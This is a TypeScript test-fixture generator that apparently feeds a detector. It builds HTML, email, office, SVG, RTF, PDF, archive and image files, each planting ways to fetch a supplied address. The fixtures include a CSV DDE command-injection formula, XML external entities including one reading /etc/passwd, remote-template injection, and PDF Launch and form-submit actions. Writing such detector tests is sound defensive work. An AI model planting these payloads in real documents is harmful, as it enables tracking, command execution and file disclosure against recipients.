// One file of every format, each trying to reach an address in the ways that its format has.
import { CFB, utils, write } from "@e965/xlsx";
import { strToU8, zipSync } from "fflate";
import * as mupdf from "mupdf";
import { gzip, sevenZip, tar } from "./archives.ts";
import { line, onePage } from "./pdf.ts";

/** `tells`: what `check` must say of it, where it has anything that its own program would follow. */
export type PhoningFile = { readonly name: string; readonly bytes: Uint8Array; readonly tells: readonly string[] };

const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const ODF = "urn:oasis:names:tc:opendocument:xmlns:";

/** `url(what)` is the planted address that says what it was fetched as. */
export function phoningFiles(url: (what: string) => string): PhoningFile[] {
  const page = htmlPage(url);
  const mail = mailWith(page, url);
  const formats: readonly (readonly [name: string, bytes: Uint8Array | string, tells: readonly string[]])[] = [
    ["a.html", page, ["picture", "stylesheet", "script", "frame", "style", "form", "refresh"]],
    ["a.eml", mail, ["picture", "stylesheet", "script"]],
    ["a.mbox", `From a@example.org Mon Jan  1 00:00:00 2024\n${mail.replaceAll("\r\n", "\n")}`, ["picture"]],
    ["a.msg", msgWith(page), ["picture", "script"]],
    [
      "a.md",
      `# Note\n\n![seen](${url("md-picture")})\n\n<script src="${url("md-script")}"></script>\n`,
      ["md-picture", "md-script"],
    ],
    ["a.txt", `Nothing is fetched: ${url("text")}\n`, []],
    [
      "a.csv",
      `name,seen\nAnn,"=WEBSERVICE(""${url("csv-service")}"")"\nBen,"=cmd|'/c start ${url("csv-dde")}'!A1"\n`,
      ["csv-service", "csv-dde"],
    ],
    ["a.svg", svgPicture(url), ["svg-picture", "svg-style", "svg-script", "svg-entity", "svg-sheet"]],
    ["a.docx", docxWith(url), ["docx-template", "docx-picture", "docx-field", "docx-frame", "docx-chunk"]],
    ["a.pptx", pptxWith(url), ["pptx-picture", "pptx-media", "pptx-object"]],
    ["a.xlsx", xlsxWith(url), ["xlsx-link", "xlsx-service", "xlsx-query"]],
    ["a.xls", xlsWith(url), ["xls-book"]],
    [
      "a.odt",
      odfWith("text", url),
      ["odt-picture", "odt-section", "odt-frame", "odt-object", "odt-template", "odt-background", "odt-reload"],
    ],
    ["a.ods", odfWith("spreadsheet", url), ["odt-picture", "ods-table", "ods-service"]],
    ["a.odp", odfWith("presentation", url), ["odt-picture", "odt-sound"]],
    ["a.rtf", rtfWith(url), ["rtf-template", "rtf-picture", "rtf-text"]],
    ["a.pdf", pdfWith(url), ["pdf-uri", "pdf-launch", "pdf-remote", "pdf-data", "pdf-form", "pdf-stream"]],
    ["a.zip", zipSync({ "a.html": strToU8(page), "a.svg": strToU8(svgPicture(url)) }), []],
    ["a.tar", tar({ name: "a.html", content: page }, { name: "l", type: "2", target: url("tar-link") }), []],
    ["a.gz", gzip(strToU8(page)), []],
    ["a.7z", sevenZip("a.html", page.slice(0, 100)), []],
    ...pictures().map(([name, bytes]) => [name, bytes, []] as const),
  ];
  return formats.map(([name, bytes, tells]) => ({
    name,
    bytes: typeof bytes === "string" ? strToU8(bytes) : bytes,
    tells,
  }));
}

const htmlPage = (url: (what: string) => string) => `<!doctype html><html><head><base href="${url("base")}">
<meta http-equiv="refresh" content="0;url=${url("refresh")}"><link rel="stylesheet" href="${url("stylesheet")}">
<style>@import "${url("import")}"; body { background: url(${url("style")}) } @font-face { font-family: x; src: url(${url("font")}) }</style>
<script src="${url("script")}"></script></head><body><p>Call 202-555-0143.</p><img src="${url("picture")}" srcset="${url("srcset")} 2x">
<iframe src="${url("frame")}"></iframe><object data="${url("object")}"></object><video src="${url("media")}" poster="${url("poster")}"></video>
<form action="${url("form")}"><input name="a"></form><svg><image href="${url("inner-svg")}"/></svg></body></html>`;

const mailWith = (page: string, url: (what: string) => string) =>
  [
    "From: Ann Example <ann@example.org>",
    "To: ben@example.org",
    "Subject: Figures",
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="b"',
    "",
    "--b",
    "Content-Type: text/html; charset=utf-8",
    "",
    page,
    "--b",
    `Content-Type: message/external-body; access-type=URL; URL="${url("external-body")}"`,
    "",
    "Content-Type: text/plain",
    "",
    "--b--",
    "",
  ].join("\r\n");

/** MS-OXMSG, as little of it as makes a message: its class, subject and page. */
function msgWith(page: string): Uint8Array {
  const file = CFB.utils.cfb_new();
  const add = (name: string, content: Uint8Array) => CFB.utils.cfb_add(file, `/${name}`, content as never);
  const properties = new Uint8Array(32 + 3 * 16);
  const view = new DataView(properties.buffer);
  const streams = [
    [0x0037001f, strToU8([..."Figures"].map((c) => `${c}\0`).join(""), true)],
    [0x001a001f, strToU8([..."IPM.Note"].map((c) => `${c}\0`).join(""), true)],
    [0x10130102, strToU8(page)],
  ] as const;
  streams.forEach(([tag, content], i) => {
    view.setUint32(32 + i * 16, tag, true);
    view.setUint32(36 + i * 16, 6, true);
    view.setUint32(40 + i * 16, content.length, true);
    add(`__substg1.0_${tag.toString(16).toUpperCase().padStart(8, "0")}`, content);
  });
  add("__properties_version1.0", properties);
  return new Uint8Array(CFB.write(file, { type: "array" }) as ArrayLike<number>);
}

const svgPicture = (url: (what: string) => string) => `<?xml version="1.0"?>
<?xml-stylesheet type="text/css" href="${url("svg-sheet")}"?>
<!DOCTYPE svg [<!ENTITY far SYSTEM "${url("svg-entity")}"><!ENTITY near SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">
<style>@import url(${url("svg-style")});</style><script xlink:href="${url("svg-script")}"/>
<image xlink:href="${url("svg-picture")}" width="9" height="9"/><image href="file:///etc/passwd" width="9" height="9"/>
<use href="${url("svg-use")}#a"/><text x="9" y="40">Call 202-555-0143</text></svg>`;

const relationships = (...all: readonly (readonly [id: string, type: string, target: string, far?: boolean])[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all
    .map(
      ([id, type, target, far = true]) =>
        `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}"${far ? ' TargetMode="External"' : ""}/>`,
    )
    .join("")}</Relationships>`;
const zipOf = (parts: Record<string, string>) =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));

function docxWith(url: (what: string) => string): Uint8Array {
  const field = (code: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  return zipOf({
    "_rels/.rels": relationships(["r1", "officeDocument", "word/document.xml", false]),
    "word/document.xml": `<!DOCTYPE w [<!ENTITY far SYSTEM "${url("docx-entity")}">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>Call 202-555-0143 &far;</w:t></w:r></w:p>${field(`INCLUDEPICTURE "${url("docx-field")}" \\d`)}</w:body></w:document>`,
    "word/_rels/document.xml.rels": relationships(
      ["r1", "image", url("docx-picture")],
      ["r2", "aFChunk", url("docx-chunk")],
      ["r3", "frame", url("docx-frame")],
      ["r4", "settings", "settings.xml", false],
      ["r5", "hyperlink", url("docx-hyperlink")],
    ),
    "word/settings.xml": `<w:settings xmlns:w="${W}"><w:attachedTemplate/></w:settings>`,
    "word/_rels/settings.xml.rels": relationships(["r1", "attachedTemplate", url("docx-template")]),
  });
}

function pptxWith(url: (what: string) => string): Uint8Array {
  const P = "http://schemas.openxmlformats.org/presentationml/2006/main";
  const A = "http://schemas.openxmlformats.org/drawingml/2006/main";
  return zipOf({
    "_rels/.rels": relationships(["r1", "officeDocument", "ppt/presentation.xml", false]),
    "ppt/presentation.xml": `<p:presentation xmlns:p="${P}" xmlns:r="${R}"><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst></p:presentation>`,
    "ppt/_rels/presentation.xml.rels": relationships(["r1", "slide", "slides/slide1.xml", false]),
    "ppt/slides/slide1.xml": `<p:sld xmlns:p="${P}" xmlns:a="${A}"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>Call 202-555-0143</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`,
    "ppt/slides/_rels/slide1.xml.rels": relationships(
      ["r1", "image", url("pptx-picture")],
      ["r2", "video", url("pptx-media")],
      ["r3", "oleObject", url("pptx-object")],
    ),
  });
}

function xlsxWith(url: (what: string) => string): Uint8Array {
  const cells = (rows: string) =>
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
  const main = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${R}"`;
  return zipOf({
    "[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    "_rels/.rels": relationships(["r1", "officeDocument", "xl/workbook.xml", false]),
    "xl/workbook.xml": `<workbook ${main}><sheets><sheet name="Staff" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>`,
    "xl/_rels/workbook.xml.rels": relationships(
      ["r1", "worksheet", "worksheets/sheet1.xml", false],
      ["r2", "externalLink", "externalLinks/externalLink1.xml", false],
    ),
    "xl/worksheets/sheet1.xml": cells(
      `<row r="1"><c r="A1" t="inlineStr"><is><t>202-555-0143</t></is></c><c r="B1"><f>[1]Far!A1</f><v>1</v></c><c r="C1"><f>_xlfn.WEBSERVICE("${url("xlsx-service")}")</f><v>0</v></c></row>`,
    ),
    "xl/externalLinks/externalLink1.xml": `<externalLink ${main}><externalBook r:id="r1"/></externalLink>`,
    "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(["r1", "externalLinkPath", url("xlsx-link")]),
    "xl/connections.xml": `<connections ${main}><connection id="1" type="4"><webPr url="${url("xlsx-query")}"/></connection></connections>`,
  });
}

/** A workbook as the library writes it, and behind its records the one that links another book (MS-XLS, 2.4.271). */
function xlsWith(url: (what: string) => string): Uint8Array {
  const book = utils.book_new();
  utils.book_append_sheet(book, utils.aoa_to_sheet([["Ann", "202-555-0143"]]), "Staff");
  const file = CFB.read(new Uint8Array(write(book, { type: "array", bookType: "xls" }) as ArrayBuffer), {
    type: "array",
  });
  const stream = CFB.find(file, "Workbook") as unknown as { content: ArrayLike<number>; size: number };
  const path = strToU8(`\x01${url("xls-book")}`);
  const record = [0xae, 0x01, path.length + 5, 0, 1, 0, path.length, 0, 0, ...path];
  stream.content = Uint8Array.from([...Array.from(stream.content), ...record]);
  stream.size = stream.content.length;
  return new Uint8Array(CFB.write(file, { type: "array" }) as ArrayLike<number>);
}

function odfWith(kind: "text" | "spreadsheet" | "presentation", url: (what: string) => string): Uint8Array {
  const names = [
    "office",
    "text",
    "table",
    "drawing:draw",
    "presentation",
    "style",
    "meta",
    "script",
    "form",
    "svg-compatible:svg",
  ]
    .map((one) => one.split(":"))
    .map(([name, prefix = name]) => `xmlns:${prefix}="${ODF}${name}:1.0"`)
    .join(" ");
  const root = (name: string, inside: string) =>
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY far SYSTEM "${url("odf-entity")}">]><office:${name} ${names} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2">${inside}</office:${name}>`;
  const picture = `<draw:frame><draw:image xlink:href="${url("odt-picture")}"/></draw:frame>`;
  const bodies = {
    text: `<text:p>Call 202-555-0143 ${picture}</text:p><text:section><text:section-source xlink:href="${url("odt-section")}"/></text:section>
      <text:p><draw:frame><draw:floating-frame xlink:href="${url("odt-frame")}"/></draw:frame><draw:frame><draw:object xlink:href="${url("odt-object")}"/></draw:frame></text:p>`,
    spreadsheet: `<table:table table:name="Staff"><table:table-source xlink:href="${url("ods-table")}" table:table-name="x"/><table:table-row><table:table-cell office:value-type="string"><text:p>202-555-0143</text:p></table:table-cell><table:table-cell table:formula="of:=WEBSERVICE(&quot;${url("ods-service")}&quot;)" office:value-type="float" office:value="0"><text:p>0</text:p></table:table-cell></table:table-row><table:shapes>${picture}</table:shapes></table:table>`,
    presentation: `<draw:page>${picture}<draw:frame><draw:text-box><text:p>Call 202-555-0143</text:p></draw:text-box></draw:frame><anim:par xmlns:anim="urn:x"><presentation:sound xlink:href="${url("odt-sound")}"/></anim:par></draw:page>`,
  };
  return zipSync({
    mimetype: [strToU8(`application/vnd.oasis.opendocument.${kind}`), { level: 0 }],
    "META-INF/manifest.xml": strToU8(`<manifest:manifest xmlns:manifest="${ODF}manifest:1.0"/>`),
    "content.xml": strToU8(
      root("document-content", `<office:body><office:${kind}>${bodies[kind]}</office:${kind}></office:body>`),
    ),
    "styles.xml": strToU8(
      root(
        "document-styles",
        `<office:styles><style:style style:name="a"><style:background-image xlink:href="${url("odt-background")}"/></style:style></office:styles>`,
      ),
    ),
    "meta.xml": strToU8(
      root(
        "document-meta",
        `<office:meta><meta:template xlink:href="${url("odt-template")}"/><meta:auto-reload xlink:href="${url("odt-reload")}"/></office:meta>`,
      ),
    ),
  });
}

const rtfWith = (url: (what: string) => string) => `{\\rtf1\\ansi{\\*\\template ${url("rtf-template")}}
{\\field{\\*\\fldinst {INCLUDEPICTURE "${url("rtf-picture")}" \\\\d}}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${url("rtf-text")}"}{\\fldrslt y}}
Call 202-555-0143.\\par}`;

function pdfWith(url: (what: string) => string): Uint8Array {
  const action = (body: string) => `<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <<${body}>>>>`;
  return onePage({
    content: line("Call 202-555-0143"),
    page: `/Annots [${action(`/S /URI /URI (${url("pdf-uri")})`)} ${action(`/S /GoToR /F (${url("pdf-remote")}) /D [0 /Fit]`)}]`,
    catalog: `/OpenAction <</S /Launch /F (${url("pdf-launch")})>> /AA <</WC <</S /SubmitForm /F <</FS /URL /F (${url("pdf-form")})>>>> /WS <</S /ImportData /F (${url("pdf-data")})>>>> /Names <</EmbeddedFiles <</Names [(x) 10 0 R]>>>>`,
    more: [
      "<</Type /Filespec /F (x.txt)>>",
      { dict: `/F <</FS /URL /F (${url("pdf-stream")})>> /FFilter /FlateDecode`, data: "" },
    ],
  });
}

function pictures(): (readonly [name: string, bytes: Uint8Array])[] {
  const pixmap = new mupdf.Pixmap(mupdf.ColorSpace.DeviceRGB, [0, 0, 40, 20], false);
  pixmap.clear(255);
  const [png, jpeg] = [Uint8Array.from(pixmap.asPNG()), Uint8Array.from(pixmap.asJPEG(80, false))];
  pixmap.destroy();
  const base64 = (text: string) => new Uint8Array(Buffer.from(text, "base64"));
  return [
    ["a.png", png],
    ["a.jpg", jpeg],
    ["a.gif", base64("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")],
    ["a.webp", base64("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA")],
    ["a.bmp", base64("Qk06AAAAAAAAADYAAAAoAAAAAQAAAAEAAAABABgAAAAAAAQAAAATCwAAEwsAAAAAAAAAAAAA////AA==")],
    ["a.tiff", tiff()],
  ];
}

/** One white pixel (TIFF 6.0, section 3). */
function tiff(): Uint8Array {
  const tags = [
    [256, 1],
    [257, 1],
    [258, 8],
    [259, 1],
    [262, 1],
    [273, 8],
    [277, 1],
    [278, 1],
    [279, 1],
  ] as const;
  const bytes = new Uint8Array(12 + 2 + tags.length * 12 + 4);
  const view = new DataView(bytes.buffer);
  bytes.set([0x49, 0x49, 42, 0, 12, 0, 0, 0, 255]);
  view.setUint16(12, tags.length, true);
  tags.forEach(([tag, value], i) => {
    view.setUint16(14 + i * 12, tag, true);
    view.setUint16(16 + i * 12, 3, true);
    view.setUint32(18 + i * 12, 1, true);
    view.setUint16(22 + i * 12, value, true);
  });
  return bytes;
}
